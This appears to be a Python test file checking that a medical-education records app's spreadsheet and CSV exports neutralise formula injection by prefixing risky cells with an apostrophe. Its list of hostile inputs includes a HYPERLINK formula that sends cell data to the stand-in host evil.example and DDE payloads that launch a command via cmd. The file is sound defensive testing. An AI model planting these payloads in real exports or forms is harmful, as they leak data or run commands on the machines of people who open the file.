"""Exports are neutralised against formula injection (issue 11, item 16): the desktop's .xlsx,
opened with openpyxl as a spreadsheet would, and the rule itself (desktop.models.textrules), which
the server's staff CSV uses too (tests/server/test_hostile_input.py reads that CSV)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from desktop.documents.xlsx import COLUMNS, nmo_history_xlsx
from desktop.models.textrules import needs_formula_guard, spreadsheet_cell

#: what a hostile or careless user can type into a text field that ends up in a spreadsheet
HOSTILE = [
    '=HYPERLINK("https://evil.example/?s="&A2,"Подробнее")',
    "+7(916)123-45-67",  # a phone typed with + is read as a formula by spreadsheets as well
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_a_formula_gets_an_apostrophe(text: str) -> None:
    assert needs_formula_guard(text)
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0.5, -3, Decimal("-1.25"), 0, dt.date(2024, 1, 1), None, True])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    assert spreadsheet_cell(value) is value


@pytest.mark.parametrize("text", ["Иванов", "ГБУЗ «ГКБ № 1»", "1.25", "", "'=already quoted", " =1"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text


def _row(i: int, **kw: object) -> dict[str, object]:
    return {"id": f"n{i}", "event_date": f"2024-01-{i + 1:02d}", "kind": "iom", "title": f"Курс {i}",
            "provider": "ООО «Ромашка»", "credits": "1", "status": "confirmed", "document_number": str(i), **kw}


def test_xlsx_has_no_formula_but_its_own_total() -> None:
    rows = [_row(i, title=text, provider=text, document_number=text) for i, text in enumerate(HOSTILE)]
    rows.append(_row(len(HOSTILE), credits="-1.5", title="Отрицательное число остаётся числом"))
    rows.append(_row(len(HOSTILE) + 1, credits="0.5", title="Обычная строка"))
    wb = load_workbook(io.BytesIO(nmo_history_xlsx({"nmo": rows})))
    ws = wb.active
    assert ws is not None
    names = [n for n, _, _ in COLUMNS]
    title, provider, number, credits = (names.index(k) + 1 for k in ("title", "provider", "document_number", "credits"))
    data = list(ws.iter_rows(min_row=2, max_row=len(rows) + 1))
    seen = set()
    for r in data:
        for col in (title, provider, number):
            cell = r[col - 1]
            if cell.value in HOSTILE or (isinstance(cell.value, str) and cell.value.lstrip("'") in HOSTILE):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.value.startswith("'"), (cell.coordinate, cell.value)
                seen.add(cell.value[1:])
    assert seen == set(HOSTILE)
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [f"{ws.cell(len(rows) + 3, credits).coordinate}"]  # only SUBTOTAL, which we wrote
    by_title = {r[title - 1].value: r for r in data}
    neg = by_title["Отрицательное число остаётся числом"][credits - 1]
    assert neg.data_type == "n" and neg.value == -1.5
    assert by_title["Обычная строка"][credits - 1].value == 0.5
    assert isinstance(by_title["Обычная строка"][0].value, dt.datetime)  # dates stay dates
